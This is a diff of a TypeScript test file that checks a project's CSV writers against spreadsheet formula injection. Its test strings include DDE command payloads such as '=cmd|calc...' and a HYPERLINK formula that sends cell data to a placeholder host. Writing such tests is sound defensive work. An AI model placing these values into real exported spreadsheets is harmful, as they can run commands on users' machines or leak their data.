@@ -8,7 +8,7 @@ import {
   heightWeightCsv, historyCsv, mergeParts, perPhoto, Random, readHistory, readTable, readVectors, UNTOUCHED, writePart,
   writeRaceTable, writeTable, writeVectors, type RaceRun, type Trial,
 } from 'descent-lab';
-import { polars, readFrame } from '../lib/src/data/frame';
+import { readFrame } from '../lib/src/data/frame';
 import { csvOf, unguarded } from '../lib/src/data/write-csv';
 import { writeTable as writeRaceRows } from '../lib/src/race/tables/csv';
 
@@ -16,9 +16,10 @@ const folder = mkdtempSync(join(tmpdir(), 'csv-'));
 after(() => rmSync(folder, { recursive: true }));
 
 /** What a spreadsheet would run, and what is hard to read back. */
-const texts = ['=cmd|calc/cat.1.jpg', '=HYPERLINK("http://host.example?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)',
-  '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '＋1', '－1', '＠x', '=1,2', '"=1+1"', '\'=1+1', '\'\'=1+1', '\'-5', '-x', '--5',
-  'cat/a "b", c.jpg', 'two\nlines', 'x=1', 'it\'s', '\'', 'dog/-1.jpg', '-5', '1e-7', 'ä €'];
+const texts = ['=cmd|calc/cat.1.jpg', '=HYPERLINK("http://host.example?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3',
+  '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '＋1', '－1', '＠x', '=1,2', '"=1+1"', '\'=1+1',
+  '\'\'=1+1', '\'-5', '-x', '--5', 'cat/a "b", c.jpg', 'two\nlines', 'x=1', 'it\'s', '\'', 'dog/-1.jpg', '-5', '1e-7',
+  'ä €'];
 
 /** The cells of a CSV file as RFC 4180 reads them. */
 function cellsOf(text: string): string[][] {
@@ -36,19 +37,21 @@ const formulae = (text: string): string[] => cellsOf(text).flat()
   .filter((cell) => /^(\s*[=+\-@＝＋－＠]|[\t\r\n])/.test(cell) && !Number.isFinite(Number(cell)));
 
 const trials = texts.flatMap((text, index): Trial[] => [UNTOUCHED, text].map((attack) => ({
-  index, photo: `${text}.jpg`, truth: text, label: text, attack, epsilon: index / 255, flipped: attack !== UNTOUCHED, linf: 1,
-  l2: 0.5, psnr: -3, transfer: null })));
+  index, photo: `${text}.jpg`, truth: text, label: text, attack, epsilon: index / 255, flipped: attack !== UNTOUCHED,
+  linf: 1, l2: 0.5, psnr: -3, transfer: null })));
+const plan = texts.map((attack) => ({ attack, epsilon: 1 }));
 
 test('no table that is written has a cell that a spreadsheet runs', () => {
-  const runs = texts.map((optimizer) => ({ optimizer, trajectory: [[-1.5, 2], [0, -0]], losses: [-3, 1e-9] })) as unknown as RaceRun[];
+  const runs = texts.map((optimizer) =>
+    ({ optimizer, trajectory: [[-1.5, 2], [0, -0]], losses: [-3, 1e-9] })) as unknown as RaceRun[];
   const rows = texts.map((text, i) => ({ [text]: text, number: -i, nothing: null }));
   const writers: Record<string, (path: string) => void> = {
     'a race': (path) => writeRaceTable(path, runs),
-    'the tables of races': (path) => writeRaceRows(path, ['text', 'number'], texts.map((text) => ({ text, number: -1.23456789 }))),
+    'the tables of races': (path) =>
+      writeRaceRows(path, ['text', 'number'], texts.map((text) => ({ text, number: -1.23456789 }))),
     'an evaluation': (path) => writeTable(path, rows),
     'a row a photo': (path) => writeTable(path, perPhoto(trials, texts)),
-    'a part': (path) => writePart(path, { trials, plan: texts.map((attack) => ({ attack, epsilon: 1 })), run: texts[0]! },
-      { index: 1, count: 1 }),
+    'a part': (path) => writePart(path, { trials, plan, run: texts[0]! }, { index: 1, count: 1 }),
     'vectors': (path) => writeVectors(path, [[-0.6, 0.8], [0, -1]]),
     'a history': (path) => writeFileSync(path, historyCsv([{ epoch: 1, loss: -0.5, accuracy: 0.5 }])),
     'the article\'s data': (path) => writeFileSync(path, heightWeightCsv(new Random(1))),
@@ -67,10 +70,12 @@ test('texts are read back as they were, and numbers are never touched', () => {
   const path = join(folder, 'back.csv');
   writeRaceRows(path, ['text', 'number'], texts.map((text, i) => ({ text, number: (1 - i) / 4 })));
   const isNumber = (text: string): boolean => text === '-5' || text === '1e-7';
-  assert.deepEqual(readTable(path), texts.map((text, i) => ({ text: isNumber(text) ? Number(text) : text, number: (1 - i) / 4 })));
+  assert.deepEqual(readTable(path),
+    texts.map((text, i) => ({ text: isNumber(text) ? Number(text) : text, number: (1 - i) / 4 })));
   assert.match(readFileSync(path, 'utf8'), /,-0\.25\n/);
   for (const text of texts) assert.equal(unguarded(cellsOf(csvOf([text], []))[0]![0]!), text);
-  const history = [{ epoch: 1, loss: 0.5, accuracy: 0.25 }, { epoch: 2, loss: 1e-9, accuracy: 1, testLoss: 2, testAccuracy: 0 }];
+  const history = [{ epoch: 1, loss: 0.5, accuracy: 0.25 },
+    { epoch: 2, loss: 1e-9, accuracy: 1, testLoss: 2, testAccuracy: 0 }];
   writeFileSync(path, historyCsv(history));
   assert.deepEqual(readHistory(path), history);
   writeVectors(path, [[-0.6, 0.8], [0, -1]]);
@@ -82,17 +87,14 @@ test('photos and attacks with such names go through the parts of an evaluation, 
     const files = [1, 2].map((index) => {
       const path = join(folder, `part-${index}.${ending}`);
       const own = trials.filter((trial) => trial.index % 2 === index - 1);
-      writePart(path, { trials: own, plan: texts.map((attack) => ({ attack, epsilon: 1 })), run: texts[0]! }, { index, count: 2 });
+      writePart(path, { trials: own, plan, run: texts[0]! }, { index, count: 2 });
       return path;
     });
-    const { trials: merged, plan } = mergeParts(files);
-    assert.deepEqual(merged, trials, ending);
-    assert.deepEqual(plan.map(({ attack }) => attack), texts, ending);
+    assert.deepEqual(mergeParts(files), { trials, plan }, ending);
   }
-  const { DataFrame } = polars();
   const foreign = join(folder, 'foreign.csv');
   writeFileSync(foreign, 'a\n\'=1\n');
-  assert.deepEqual(readFrame(foreign).toRecords(), DataFrame({ a: ['\'=1'] }).toRecords(), 'a table of somebody else stays as it is');
+  assert.deepEqual(readFrame(foreign).toRecords(), [{ a: '\'=1' }], 'a table of somebody else stays as it is');
 });
 
 test('the tables in data/ would be written with the same bytes', () => {
